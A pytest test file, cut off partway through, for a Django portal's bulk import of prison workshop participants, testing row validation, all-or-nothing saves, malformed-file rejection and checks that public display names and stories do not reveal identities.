"""Bulk import of participants: CSV and XLSX, preview with every row error, all-or-nothing save,
the template, and files that are not what they claim to be."""

import io
import zipfile

import openpyxl
import pytest
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from django.urls import reverse
from django.utils import timezone

from inmates import imports
from inmates.models import Inmate
from inmates.services import inmates_import
from tests import factories

pytestmark = pytest.mark.django_db

URL = "/portal/peserta/impor/"
HEADER = [
    "Nama lengkap",
    "Nomor registrasi",
    "Jenis kelamin (L/P)",
    "Tahun lahir",
    "Bengkel kerja",
    "Keterampilan",
    "Nama tampilan",
    "Kisah publik",
]
NAMES = ["Sutarno Wibisono", "Ketut Widiastuti", "Made Arsana", "Siti Aminah", "Yohanes Lado", "Rina Marlina"]
GENDERS = ["L", "Perempuan", "laki-laki", "p", "L", "P"]


def _rows(n=3):
    return [
        [
            NAMES[i % 6],
            f"B.I-{100 + i}/2018",
            GENDERS[i % 6],
            str(1980 + i % 20),
            "bengkel batik",  # matched to "Bengkel Batik" whatever the case
            "Membatik",
            f"Pengrajin {i}",
            "Kisah.",
        ]
        for i in range(n)
    ]


def _csv(rows, *, header=HEADER, delimiter=";", encoding="utf-8-sig") -> bytes:
    lines = [delimiter.join(header)] + [delimiter.join(row) for row in rows]
    return ("\r\n".join(lines) + "\r\n").encode(encoding)


def _xlsx(rows, *, header=HEADER) -> bytes:
    workbook = openpyxl.Workbook()
    sheet = workbook.active
    sheet.append(header)
    for row in rows:
        # Excel stores numbers as numbers: the birth year arrives as an int (or float).
        sheet.append([int(v) if v.isdigit() else v for v in row])
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def _upload(client, content: bytes, name="peserta.csv"):
    return client.post(URL, {"step": "preview", "file": SimpleUploadedFile(name, content)})


def _confirm(client, preview_response):
    return client.post(URL, {"step": "confirm", "token": preview_response.context["token"]})


@pytest.fixture
def workshop(prison):
    return factories.make_workshop(prison=prison, name="Bengkel Batik")


# --- Valid files --------------------------------------------------------------------------------


def test_import_csv_preview_saves_nothing_then_confirm_creates_all(officer_client, officer, prison, workshop):
    preview = _upload(officer_client, _csv(_rows(4)))

    assert preview.status_code == 200
    assert preview.context["preview"].errors == []
    assert "4 peserta siap disimpan" in preview.content.decode()
    assert Inmate.objects.count() == 0

    response = _confirm(officer_client, preview)

    assert response.status_code == 302
    assert response["Location"] == reverse("portal:inmate-list")
    inmates = Inmate.objects.order_by("registration_number")
    assert [(i.legal_name, i.registration_number, i.gender, i.birth_year) for i in inmates] == [
        ("Sutarno Wibisono", "B.I-100/2018", "L", 1980),
        ("Ketut Widiastuti", "B.I-101/2018", "P", 1981),
        ("Made Arsana", "B.I-102/2018", "L", 1982),
        ("Siti Aminah", "B.I-103/2018", "P", 1983),
    ]
    assert {i.prison for i in inmates} == {prison}
    assert {i.workshop for i in inmates} == {workshop}
    assert {i.history.get().history_user for i in inmates} == {officer}
    assert officer_client.session.get("inmate_import") is None


def test_import_xlsx_creates_all_rows(officer_client, prison, workshop):
    preview = _upload(officer_client, _xlsx(_rows(3)), name="peserta.xlsx")

    assert preview.context["preview"].format == "xlsx"
    assert preview.context["preview"].errors == []
    _confirm(officer_client, preview)

    assert sorted(Inmate.objects.values_list("registration_number", "birth_year")) == [
        ("B.I-100/2018", 1980),
        ("B.I-101/2018", 1981),
        ("B.I-102/2018", 1982),
    ]


@pytest.mark.parametrize(
    "delimiter, encoding",
    [(";", "utf-8-sig"), (",", "utf-8"), ("\t", "utf-16"), (";", "cp1252")],
)
def test_import_csv_delimiters_and_encodings(officer_client, workshop, delimiter, encoding):
    rows = _rows(2)
    rows[0][0] = "Andr\u00e9 Sitompul"

    preview = _upload(officer_client, _csv(rows, delimiter=delimiter, encoding=encoding))
    _confirm(officer_client, preview)

    names = sorted(Inmate.objects.values_list("legal_name", flat=True))
    assert names == ["Andr\u00e9 Sitompul", "Ketut Widiastuti"]


def test_import_header_order_and_optional_columns(officer_client, prison):
    content = _csv([["L", "B.I-1/2018", "Wayan Sudira"]], header=["JK", "No Registrasi", "nama lengkap"])

    preview = _upload(officer_client, content)
    _confirm(officer_client, preview)

    inmate = Inmate.objects.get()
    saved = (inmate.legal_name, inmate.registration_number, inmate.gender, inmate.birth_year, inmate.workshop)
    assert saved == ("Wayan Sudira", "B.I-1/2018", "L", None, None)


def test_import_unknown_columns_are_listed_and_ignored(officer_client, workshop):
    content = _csv([["1", *row] for row in _rows(1)], header=["No", *HEADER])

    preview = _upload(officer_client, content)

    assert preview.context["preview"].ignored_columns == ["No"]
    assert "Kolom yang tidak dikenal dan diabaikan: No" in preview.content.decode()
    assert preview.context["preview"].is_valid


# --- Row errors: all listed, nothing saved ------------------------------------------------------


def test_import_bad_rows_list_every_error_and_save_nothing(officer_client, prison, other_prison, workshop):
    factories.make_inmate(prison=prison, registration_number="B.I-999/2018")
    factories.make_workshop(prison=other_prison, name="Bengkel Kayu")
    rows = _rows(9)
    rows[1][0] = ""  # row 3: no legal name
    rows[2][2] = "X"  # row 4: bad gender
    rows[3][3] = "1850"  # row 5: birth year out of range
    rows[4][1] = "b.i\u2013100/2018"  # row 6: duplicate of row 2 (case and the kind of dash aside)
    rows[5][1] = "BI-999/2018"  # row 7: already in the prison (the dot left out)
    rows[6][4] = "Bengkel Kayu"  # row 8: another prison's workshop
    rows[7][3] = "tahun"  # row 9: not a year
    rows[8][2] = ""  # row 10: no gender
    low, high = timezone.localdate().year - 100, timezone.localdate().year - 12

    preview = _upload(officer_client, _csv(rows))

    errors = [(e.row, e.column, e.message) for e in preview.context["preview"].errors]
    assert errors == [
        (3, "Nama lengkap", "Nama lengkap wajib diisi."),
        (
            4,
            "Jenis kelamin",
            "Jenis kelamin \u201cX\u201d tidak dikenal. Isi L (Laki-laki) atau P (Perempuan).",
        ),
        (5, "Tahun lahir", f"Tahun lahir 1850 di luar rentang {low}\u2013{high}."),
        (6, "Nomor registrasi", "Nomor registrasi b.i-100/2018 sudah ada di baris 2 berkas ini."),
        (7, "Nomor registrasi", "Nomor registrasi BI-999/2018 sudah terdaftar di lapas Anda."),
        (
            8,
            "Bengkel kerja",
            "Bengkel kerja \u201cBengkel Kayu\u201d tidak ada di lapas Anda. Pilihan: Bengkel Batik.",
        ),
        (9, "Tahun lahir", "Tahun lahir \u201ctahun\u201d bukan angka tahun."),
        (10, "Jenis kelamin", "Jenis kelamin wajib diisi: L atau P."),
    ]
    content = preview.content.decode()
    assert "8 kesalahan di berkas peserta.csv" in content
    assert "Nomor registrasi BI-999/2018 sudah terdaftar di lapas Anda." in content
    assert 'name="step" value="confirm"' not in content
    assert officer_client.session.get("inmate_import") is None
    assert Inmate.objects.count() == 1


def test_import_one_bad_row_among_many_in_xlsx_saves_nothing(officer_client, workshop):
    rows = _rows(50)
    rows[37][2] = "Pria/Wanita"

    preview = _upload(officer_client, _xlsx(rows), name="peserta.xlsx")
    forged = officer_client.post(URL, {"step": "confirm", "token": "palsu"})

    assert [(e.row, e.column) for e in preview.context["preview"].errors] == [(39, "Jenis kelamin")]
    assert forged.status_code == 302
    assert Inmate.objects.count() == 0


def test_import_confirm_rechecks_and_saves_nothing_when_number_taken_meanwhile(
    officer_client, prison, workshop
):
    preview = _upload(officer_client, _csv(_rows(3)))
    factories.make_inmate(prison=prison, registration_number="B.I-102/2018")

    response = _confirm(officer_client, preview)

    assert response.status_code == 200
    assert response.context["confirm_errors"] == [
        "Baris 4: nomor registrasi B.I-102/2018 sudah terdaftar di lapas Anda."
    ]
    assert "Impor dibatalkan; tidak ada peserta yang disimpan." in response.content.decode()
    assert Inmate.objects.count() == 1


def test_import_confirm_twice_saves_once(officer_client, workshop):
    preview = _upload(officer_client, _csv(_rows(2)))

    _confirm(officer_client, preview)
    again = _confirm(officer_client, preview)

    assert again.status_code == 302
    assert again["Location"] == URL
    assert Inmate.objects.count() == 2


def test_import_service_is_all_or_nothing(prison, other_prison, officer):
    theirs = factories.make_workshop(prison=other_prison)
    rows = [
        {"row": 2, "legal_name": "A", "registration_number": "R-1", "gender": "L"},
        {"row": 3, "legal_name": "B", "registration_number": "R-2", "gender": "P", "workshop_id": theirs.pk},
        {"row": 4, "legal_name": "C", "registration_number": "r-1", "gender": "P"},
    ]

    with pytest.raises(ValidationError) as excinfo:
        inmates_import(prison=prison, user=officer, rows=rows)

    assert excinfo.value.messages == [
        "Baris 3: bengkel kerja tidak ditemukan di lapas Anda.",
        "Baris 4: nomor registrasi r-1 sudah terdaftar di lapas Anda.",
    ]
    assert Inmate.objects.count() == 0


# --- Files that cannot be used ------------------------------------------------------------------


def _png() -> bytes:
    return factories.image_bytes(fmt="PNG")


def _broken_xlsx() -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("xl/workbook.xml", "<bukan excel")
    return buffer.getvalue()


@pytest.mark.parametrize(
    "content, name, message",
    [
        (bytes(range(256)) * 40, "peserta.csv", "Berkas ini bukan CSV atau Excel (.xlsx)."),
        (_png(), "foto.csv", "Berkas ini bukan CSV atau Excel (.xlsx)."),
        (
            b"\x89PNG\r\n\x1a\n" + b"\x01\x02garbage" * 50,
            "peserta.xlsx",
            "Berkas Excel ini rusak atau bukan berkas .xlsx.",
        ),
        (_broken_xlsx(), "peserta.xlsx", "Berkas Excel ini rusak atau bukan berkas .xlsx."),
        (
            b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 100,
            "peserta.xls",
            "Format Excel lama (.xls) tidak didukung.",
        ),
        (b"", "kosong.csv", "Berkas yang dikirimkan kosong."),
        (b"  \r\n", "kosong.csv", "Berkas kosong."),
        (
            b"No;Nama warga;Umur;Alamat\r\n1;Budi;30;Jakarta\r\n",
            "salah.csv",
            "Kolom wajib yang tidak ditemukan: Nama lengkap, Nomor registrasi, Jenis kelamin (L/P).",
        ),
        (
            ";".join(HEADER).encode() + b"\r\n",
            "judul.csv",
            "Berkas hanya berisi baris judul, belum ada data peserta.",
        ),
        (
            b"Nama lengkap;Nama;Nomor registrasi;JK\r\nA;B;1;L\r\n",
            "ganda.csv",
            "Kolom \u201cNama lengkap\u201d muncul dua kali di baris judul.",
        ),
    ],
)
def test_import_unusable_file_is_clear_form_error(officer_client, content, name, message):
    response = _upload(officer_client, content, name=name)

    assert response.status_code == 200
    errors = response.context["form"].errors["file"]
    assert len(errors) == 1
    assert message in errors[0]
    assert message.split(".")[0] in response.content.decode()
    assert Inmate.objects.count() == 0


def test_import_without_file_is_form_error(officer_client):
    response = officer_client.post(URL, {"step": "preview"})

    assert response.context["form"].errors["file"] == ["Bidang ini tidak boleh kosong."]


def test_import_too_large_file_is_refused(officer_client):
    content = _csv(_rows(1)) + b"x" * (2 * 1024 * 1024)

    response = _upload(officer_client, content)

    assert response.context["form"].errors["file"] == [
        "Berkas terlalu besar (paling besar 2 MB). Bagi menjadi beberapa berkas."
    ]


def test_import_too_many_rows_is_refused(officer_client):
    rows = [[f"Nama {i}", f"R-{i}", "L", "", "", "", "", ""] for i in range(imports.MAX_ROWS + 1)]

    response = _upload(officer_client, _csv(rows))

    assert response.context["form"].errors["file"] == [
        "Berkas berisi lebih dari 2.000 baris data. Bagi menjadi beberapa berkas."
    ]


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
@pytest.mark.parametrize("extra", [1, 3000])
def test_import_past_max_rows_is_refused_in_either_format_and_nothing_kept(officer_client, fmt, extra):
    """An Excel sheet's rows past the limit were cut without a word: "2000 peserta siap
    disimpan", and the rest of 2,001 or 5,000 rows was lost."""
    rows = [[f"Nama {i}", f"R-{i}", "L", "", "", "", "", ""] for i in range(imports.MAX_ROWS + extra)]
    content = _csv(rows) if fmt == "csv" else _xlsx(rows)

    response = _upload(officer_client, content, name=f"peserta.{fmt}")

    assert response.context["form"].errors["file"] == [
        "Berkas berisi lebih dari 2.000 baris data. Bagi menjadi beberapa berkas."
    ]
    assert response.context.get("token") is None
    assert Inmate.objects.count() == 0


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_import_max_rows_with_the_template_example_left_in_are_all_read(officer_client, fmt):
    example = [imports.EXAMPLE_NAME, imports.EXAMPLE_REGISTRATION_NUMBER, "L", "1985", "", "", "", ""]
    rows = [example] + [[f"Nama {i}", f"R-{i}", "L", "", "", "", "", ""] for i in range(imports.MAX_ROWS)]
    content = _csv(rows) if fmt == "csv" else _xlsx(rows)

    preview = _upload(officer_client, content, name=f"peserta.{fmt}").context["preview"]

    assert (len(preview.rows), preview.errors, preview.example_rows) == (imports.MAX_ROWS, [], [2])
    assert preview.rows[-1]["registration_number"] == f"R-{imports.MAX_ROWS - 1}"


def test_import_too_many_rows_says_the_limit_in_english_as_english_writes_it(officer_client):
    officer_client.cookies["django_language"] = "en"
    rows = [[f"Nama {i}", f"R-{i}", "L", "", "", "", "", ""] for i in range(imports.MAX_ROWS + 1)]

    response = _upload(officer_client, _xlsx(rows), name="peserta.xlsx")

    assert response.context["form"].errors["file"] == [
        "The file has more than 2,000 data rows. Split it into several files."
    ]


def test_import_max_rows_accepted(officer_client):
    rows = [[f"Nama {i}", f"R-{i}", "L", "", "", "", "", ""] for i in range(imports.MAX_ROWS)]

    preview = _upload(officer_client, _csv(rows))
    _confirm(officer_client, preview)

    assert Inmate.objects.count() == imports.MAX_ROWS


# --- Template ------------------------------------------------------------------------------------


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_import_template_example_is_valid_but_never_imported(officer_client, prison, workshop, fmt):
    response = officer_client.get(reverse("portal:inmate-import-template"), {"format": fmt})

    assert response.status_code == 200
    assert response["Content-Disposition"] == f'attachment; filename="templat-peserta.{fmt}"'
    template = imports.read_table(SimpleUploadedFile(f"templat.{fmt}", response.content)).rows
    header, example = template[0][1], template[1][1]
    # The example passes every check as it stands (a model row to copy) ...
    as_own = [header, [example[0], "B.I-9999/2018", *example[2:]]]
    checked = imports.check_rows(list(enumerate(as_own, start=1)), prison=prison)
    assert checked.errors == []
    assert [(r["legal_name"], r["gender"], r["workshop_id"]) for r in checked.rows] == [
        ("Budi Santoso", "L", workshop.pk)
    ]
    # ... the template alone is a clear form error, not one imported "Budi Santoso" ...
    alone = _upload(officer_client, response.content, name=f"templat-peserta.{fmt}")
    assert alone.context["form"].errors["file"] == [
        "Berkas hanya berisi baris contoh dari templat (Budi Santoso). Isi data peserta Anda, lalu unggah lagi."
    ]
    # ... and filled in below the example, only the officer's own rows are imported.
    own = [[str(cell) for cell in example]] + _rows(2)
    preview = _upload(officer_client, _xlsx(own) if fmt == "xlsx" else _csv(own), name=f"peserta.{fmt}")
    assert preview.context["preview"].example_rows == [2]
    assert "Baris 2 adalah baris contoh dari templat dan tidak diimpor." in preview.content.decode()
    _confirm(officer_client, preview)
    assert sorted(Inmate.objects.values_list("legal_name", flat=True)) == ["Ketut Widiastuti", "Sutarno Wibisono"]


def test_import_template_csv_has_bom_and_semicolons(officer_client, prison):
    content = officer_client.get(reverse("portal:inmate-import-template")).content

    assert content.startswith(b"\xef\xbb\xbf" + ";".join(HEADER).encode())
    assert content.count(b"\r\n") == 2


def test_import_template_unknown_format_is_404(officer_client):
    assert officer_client.get(reverse("portal:inmate-import-template"), {"format": "pdf"}).status_code == 404


# --- Access ----------------------------------------------------------------------------------------


def test_import_non_officer_is_403_and_saves_nothing(prison):
    visitor = Client()
    visitor.force_login(factories.make_user(username="pengunjung"))

    response = _upload(visitor, _csv(_rows(1)))

    assert response.status_code == 403
    assert Inmate.objects.count() == 0


def test_import_lands_in_officers_prison_whatever_is_posted(officer_client, prison, other_prison, workshop):
    upload = SimpleUploadedFile("p.csv", _csv(_rows(2)))
    preview = officer_client.post(URL, {"step": "preview", "prison": other_prison.pk, "file": upload})
    token = preview.context["token"]
    officer_client.post(URL, {"step": "confirm", "token": token, "prison": other_prison.pk})

    assert Inmate.objects.filter(prison=prison).count() == 2
    assert not Inmate.objects.filter(prison=other_prison).exists()


def test_import_preview_of_one_officer_not_confirmable_by_another(officer_client, prison, workshop):
    preview = _upload(officer_client, _csv(_rows(2)))
    colleague = Client()
    colleague.force_login(factories.make_officer(prison=prison, username="petugas.dua"))

    response = colleague.post(URL, {"step": "confirm", "token": preview.context["token"]})

    assert response.status_code == 302
    assert Inmate.objects.count() == 0


def test_import_csv_with_excel_sep_line(officer_client, workshop):
    content = b"sep=,\r\n" + _csv(_rows(2), delimiter=",", encoding="utf-8")

    preview = _upload(officer_client, content)

    assert [r["row"] for r in preview.context["preview"].rows] == [2, 3]
    _confirm(officer_client, preview)
    assert Inmate.objects.count() == 2


def test_import_xlsx_reads_sheet_named_peserta(officer_client, workshop):
    workbook = openpyxl.Workbook()
    workbook.active.title = "Petunjuk"
    workbook.active.append(["Isi lembar Peserta"])
    sheet = workbook.create_sheet("Peserta")
    sheet.append(HEADER)
    sheet.append(_rows(1)[0])
    buffer = io.BytesIO()
    workbook.save(buffer)

    preview = _upload(officer_client, buffer.getvalue(), name="peserta.xlsx")

    assert [r["legal_name"] for r in preview.context["preview"].rows] == ["Sutarno Wibisono"]


# --- What may become public (found by a probe: the import skipped the person form's rule) ------


def test_import_refuses_a_display_name_or_story_that_names_the_person(officer_client, workshop):
    rows = _rows(3)
    rows[0][6] = rows[0][0]  # row 2: the display name is the legal name
    rows[1][7] = f"Saya {rows[1][0]}, nomor {rows[1][1]}"  # row 3: the story names them
    rows[2][6] = "Pak Made"  # row 4: one word of "Made Arsana" is a nickname: fine

    preview = _upload(officer_client, _csv(rows))

    errors = [(e.row, e.column) for e in preview.context["preview"].errors]
    assert errors == [(2, "Nama tampilan"), (3, "Kisah publik")]
    assert "Nama tampilan tidak boleh memuat nama lengkap" in preview.content.decode()
    assert 'name="step" value="confirm"' not in preview.content.decode()
    assert Inmate.objects.count() == 0


def test_import_service_rechecks_what_may_become_public(prison, officer):
    rows = [
        {"row": 2, "legal_name": "Imp Tujuh Lengkap", "registration_number": "B.I-7007/2024", "gender": "L",
         "display_name": "Tujuh Lengkap", "public_story": ""},
        {"row": 3, "legal_name": "Dua Orang", "registration_number": "B.I-7008/2024", "gender": "L",
         "display_name": "Pak Dua", "public_story": "Nomor saya BI 7008 2024."},
    ]

    with pytest.raises(ValidationError) as excinfo:
        inmates_import(prison=prison, user=officer, rows=rows)

    assert len(excinfo.value.messages) == 2
    assert excinfo.value.messages[0].startswith("Baris 2: Nama tampilan tidak boleh")
    assert excinfo.value.messages[1].startswith("Baris 3: Kisah publik tidak boleh")
    assert Inmate.objects.count() == 0


def test_import_service_refuses_an_offence_or_another_inmate_s_name(prison, officer, other_prison):
    factories.make_inmate(prison=prison, legal_name="Sudarto Wibisono")
    factories.make_inmate(prison=other_prison, legal_name="Made Wirawan")  # elsewhere: not looked up
    rows = [
        {"row": 2, "legal_name": "Rina Kartika", "registration_number": "B.I-7009/2024", "gender": "P",
         "display_name": "sudarto  wibisono", "public_story": ""},
        {"row": 3, "legal_name": "Dewi Lestari", "registration_number": "B.I-7010/2024", "gender": "P",
         "display_name": "Bu Dewi", "public_story": "Divonis 5 tahun penjara, kini menjahit."},
        {"row": 4, "legal_name": "Made Arsana", "registration_number": "B.I-7011/2024", "gender": "L",
         "display_name": "Made Wirawan", "public_story": "Menganyam pandan sejak 2016."},
    ]

    with pytest.raises(ValidationError) as excinfo:
        inmates_import(prison=prison, user=officer, rows=rows)

    assert len(excinfo.value.messages) == 2
    assert excinfo.value.messages[0].startswith("Baris 2: Nama tampilan ini adalah nama lengkap warga binaan lain")
    assert excinfo.value.messages[1].startswith("Baris 3: Kisah publik tidak boleh menyebut tindak pidana")
    assert list(Inmate.objects.filter(prison=prison).values_list("legal_name", flat=True)) == ["Sudarto Wibisono"]


def test_import_service_refuses_a_name_of_another_row_however_spelt(prison, officer):
    """Checked again when saving (time passes between preview and confirm)."""
    rows = [
        {"row": 2, "legal_name": "Rina Kartika", "registration_number": "B.I-7012/2024", "gender": "P",
         "display_name": "Bu Rina", "public_story": "Belajar menjahit dari Dewi_Lestari."},
        {"row": 3, "legal_name": "Dewi Lestari", "registration_number": "B.I-7013/2024", "gender": "P",
         "display_name": "KartikaRina", "public_story": ""},
    ]

    with pytest.raises(ValidationError) as excinfo:
        inmates_import(prison=prison, user=officer, rows=rows)

    assert excinfo.value.messages == [
        "Baris 2: Kisah publik tidak boleh memuat nama lengkap atau nomor registrasi warga binaan lain.",
        "Baris 3: Nama tampilan ini adalah nama lengkap warga binaan lain; pilih nama panggilan atau inisial.",
    ]
    assert not Inmate.objects.filter(prison=prison).exists()


def test_import_preview_already_refuses_another_inmate_s_full_name(officer_client, prison, other_prison, workshop):
    """Told in the preview, not only when saving (a probe saw "every row is fine" and then a
    refusal at Simpan); another prison's inmates are not looked up."""
    factories.make_inmate(prison=prison, legal_name="Sudarto Wibisono")
    factories.make_inmate(prison=other_prison, legal_name="Andi Muhammad Ridwan")
    rows = _rows(2)
    rows[0][6] = "sudarto  WIBISONO"
    rows[1][6] = "Andi Muhammad Ridwan"

    preview = _upload(officer_client, _csv(rows)).context["preview"]

    assert [(error.row, error.message) for error in preview.errors] == [
        (2, "Nama tampilan ini adalah nama lengkap warga binaan lain; pilih nama panggilan atau inisial.")
    ]


def test_import_preview_refuses_a_name_of_another_row_of_the_file(officer_client, prison, workshop):
    """A display name or story naming somebody else in the same file (found by the third probe)."""
    rows = _rows(3)  # Sutarno Wibisono, Ketut Widiastuti, Made Arsana
    rows[1][6] = "Wibisono Sutarno"
    rows[2][7] = "Belajar menenun bersama Ketut Widiastuti."

    preview = _upload(officer_client, _csv(rows)).context["preview"]

    assert [(error.row, error.message) for error in preview.errors] == [
        (3, "Nama tampilan ini adalah nama lengkap warga binaan lain; pilih nama panggilan atau inisial."),
        (4, "Kisah publik tidak boleh memuat nama lengkap atau nomor registrasi warga binaan lain."),
    ]


def test_import_xlsx_formula_without_a_stored_value_is_a_clear_error(officer_client, workshop):
    """Some programs save a formula without its value; read as empty, the birth year was lost
    without a word (found by a probe). openpyxl writes exactly such a file."""
    workbook = openpyxl.Workbook()
    sheet = workbook.active
    sheet.append(HEADER)
    sheet.append(["Made Arsana", "B.I-0201/2018", "L", "=1980+5", "", "", "", ""])
    buffer = io.BytesIO()
    workbook.save(buffer)

    response = _upload(officer_client, buffer.getvalue(), name="peserta.xlsx")

    assert response.context["form"].errors["file"] == [
        "Sel D2 berisi rumus tanpa nilai tersimpan. Buka berkasnya di Excel atau LibreOffice, simpan "
        "lagi, lalu unggah ulang (atau ganti rumusnya dengan nilainya)."
    ]
    assert not Inmate.objects.exists()


def test_import_refuses_invisible_characters_in_a_cell(officer_client, workshop):
    rows = _rows(2)
    rows[1][0] = "Made \u202eArsana"

    preview = _upload(officer_client, _csv(rows))

    assert [(e.row, e.column) for e in preview.context["preview"].errors] == [(3, "Nama lengkap")]
    assert Inmate.objects.count() == 0


def test_import_refuses_skills_and_story_longer_than_the_person_form_allows(officer_client, workshop):
    # Found by a probe: 5000 characters of skills and 4000 of story were saved, and the person's
    # edit form then failed on both until somebody shortened them.
    skills_limit = Inmate._meta.get_field("skills").max_length
    story_limit = Inmate._meta.get_field("public_story").max_length
    rows = _rows(3)
    rows[0][5] = "s" * skills_limit  # row 2: just fits
    rows[0][7] = "k" * story_limit
    rows[1][5] = "s" * (skills_limit + 1)  # row 3
    rows[2][7] = "k" * (story_limit + 1)  # row 4

    preview = _upload(officer_client, _csv(rows))

    assert (skills_limit, story_limit) == (1000, 3000)
    assert [(e.row, e.column, e.message) for e in preview.context["preview"].errors] == [
        (3, "Keterampilan", "Terlalu panjang (paling banyak 1000 karakter)."),
        (4, "Kisah publik", "Terlalu panjang (paling banyak 3000 karakter)."),
    ]
    assert Inmate.objects.count() == 0


def test_import_refuses_a_line_break_in_a_name_or_number_like_the_person_form(officer_client, workshop):
    # Excel writes Alt+Enter inside a cell as a quoted line break; the model refuses it in a
    # one-line field, so the person's edit form would fail on it later.
    content = (
        "\r\n".join(
            [
                ";".join(HEADER),
                '"Made\nArsana";B.I-100/2018;L;1980;;;;',
                'Siti Aminah;"B.I-101\r\n/2018";P;1981;;;;',
                'Rina Marlina;B.I-102/2018;P;1982;;;"Pak\nRina";"Baris satu.\nBaris dua."',
            ]
        )
        + "\r\n"
    ).encode("utf-8-sig")

    preview = _upload(officer_client, content)

    one_line = "Isian ini harus satu baris, tanpa ganti baris."
    assert [(e.row, e.column, e.message) for e in preview.context["preview"].errors] == [
        (2, "Nama lengkap", one_line),
        (3, "Nomor registrasi", one_line),
        (4, "Nama tampilan", one_line),
    ]
    assert Inmate.objects.count() == 0


def test_import_column_limits_are_the_models():
    limits = {column.key: column.max_length for column in imports.COLUMNS if column.max_length}

    assert limits == {
        key: Inmate._meta.get_field(key).max_length
        for key in ("legal_name", "registration_number", "skills", "display_name", "public_story")
    }


def test_import_prefers_the_workshop_named_exactly_as_in_the_file(officer_client, prison, workshop):
    # Names unique whatever their case (workshop_unique_name_per_prison) may still differ in their
    # spaces when not written through the admin; the name as written wins.
    spaced = factories.make_workshop(prison=prison, name="Bengkel  Batik")
    rows = _rows(2)
    rows[0][4] = "Bengkel Batik"
    rows[1][4] = "Bengkel  Batik"

    preview = _upload(officer_client, _csv(rows))

    assert preview.context["preview"].errors == []
    assert [row["workshop_id"] for row in preview.context["preview"].rows] == [workshop.pk, spaced.pk]


def test_import_reports_a_workshop_name_that_matches_several_as_a_row_error(officer_client, prison, workshop):
    factories.make_workshop(prison=prison, name="Bengkel  Batik")
    rows = _rows(1)
    rows[0][4] = "bengkel batik"

    preview = _upload(officer_client, _csv(rows))

    assert [(e.row, e.column, e.message) for e in preview.context["preview"].errors] == [
        (
            2,
            "Bengkel kerja",
            "Bengkel kerja \u201cbengkel batik\u201d cocok dengan beberapa bengkel kerja di lapas Anda "
            "(\u201cBengkel  Batik\u201d, \u201cBengkel Batik\u201d). Tulis namanya persis seperti salah satunya.",
        )
    ]
    assert Inmate.objects.count() == 0


def test_import_page_in_english_explains_every_indonesian_heading(officer_client):
    """The headings stay Indonesian (they are the file's format); an English page says what each means."""
    officer_client.cookies["django_language"] = "en"

    html = officer_client.get(URL).content.decode()

    for heading, gloss in [
        ("Nama lengkap", "full name"),
        ("Nomor registrasi", "registration number"),
        ("Jenis kelamin (L/P)", "sex"),
        ("Tahun lahir", "year of birth"),
        ("Bengkel kerja", "workshop"),
        ("Keterampilan", "skills"),
        ("Nama tampilan", "display name"),
        ("Kisah publik", "public story"),
    ]:
        assert f'<strong lang="id">{heading}</strong> ({gloss})' in html


def test_import_page_in_indonesian_shows_the_headings_alone(officer_client):
    html = officer_client.get(URL).content.decode()

    assert '<strong lang="id">Nama lengkap</strong> <span' in html
    assert "(nama lengkap)" not in html


# --- Headings, gender spellings, sheets, title rows and encodings --------------------------------


def _workbook(sheets: dict[str, list[list]]) -> bytes:
    workbook = openpyxl.Workbook()
    workbook.remove(workbook.active)
    for title, rows in sheets.items():
        sheet = workbook.create_sheet(title)
        for row in rows:
            sheet.append(row)
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def test_import_reads_a_gender_column_headed_l_slash_p(officer_client):
    """The alias l_p was listed, but the heading "L/P" became "lp" and was never found."""
    content = _csv([["1", "Slamet Riyadi", "B.I-7701/2018", "L", "1979"]], header=["No", "Nama", "No. Reg", "L/P", "Tahun Lahir"])

    preview = _upload(officer_client, content).context["preview"]

    assert preview.errors == []
    assert [(r["legal_name"], r["registration_number"], r["gender"], r["birth_year"]) for r in preview.rows] == [
        ("Slamet Riyadi", "B.I-7701/2018", "L", 1979)
    ]
    assert preview.ignored_columns == ["No"]


@pytest.mark.parametrize(
    ("written", "gender"),
    [("Lk", "L"), ("Pr", "P"), ("LAKI - LAKI", "L"), ("L.", "L"), ("pr.", "P"), ("Laki-laki", "L"), ("Wanita", "P")],
)
def test_import_reads_the_ways_gender_is_written(officer_client, written, gender):
    content = _csv([["Yohanes Lado", "B.G-1/2018", written]], header=HEADER[:3])

    preview = _upload(officer_client, content).context["preview"]

    assert (preview.errors, [r["gender"] for r in preview.rows]) == ([], [gender])


def test_import_still_refuses_a_gender_it_does_not_know(officer_client):
    content = _csv([["Yohanes Lado", "B.G-1/2018", "X"]], header=HEADER[:3])

    preview = _upload(officer_client, content).context["preview"]

    assert [e.message for e in preview.errors] == [
        "Jenis kelamin “X” tidak dikenal. Isi L (Laki-laki) atau P (Perempuan)."
    ]


def test_import_reads_the_data_of_a_second_sheet_and_says_so(officer_client):
    content = _workbook({"Petunjuk": [["Isi di lembar kedua"]], "Data": [HEADER[:3], ["Sheet Dua", "B.I-9003/2018", "L"]]})

    response = _upload(officer_client, content, name="peserta.xlsx")

    preview = response.context["preview"]
    assert [r["registration_number"] for r in preview.rows] == ["B.I-9003/2018"]
    assert (preview.sheet, preview.other_sheet, preview.header_row) == ("Data", True, 1)
    assert "Data dibaca dari lembar “Data”: lembar sebelumnya tidak berisi judul kolom." in response.content.decode()


def test_import_a_sheet_named_peserta_in_any_case_comes_first(officer_client):
    content = _workbook({
        "Rekap": [HEADER[:3], ["Bukan Ini", "B.I-1/2018", "L"]],
        "peserta": [HEADER[:3], ["Lower Sheet", "B.I-9011/2018", "L"]],
    })

    preview = _upload(officer_client, content, name="peserta.xlsx").context["preview"]

    assert [r["legal_name"] for r in preview.rows] == ["Lower Sheet"]


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_import_leaves_out_title_rows_above_the_headings_and_keeps_the_sheet_s_row_numbers(officer_client, fmt):
    rows = [["DAFTAR WBP PESERTA PELATIHAN", "", ""], ["LAPAS KELAS I CIPINANG", "", ""], ["", "", ""], HEADER[:3],
            ["Tono", "B.I-8101/2018", "L"], ["Tini", "B.I-8102/2018", "Z"]]
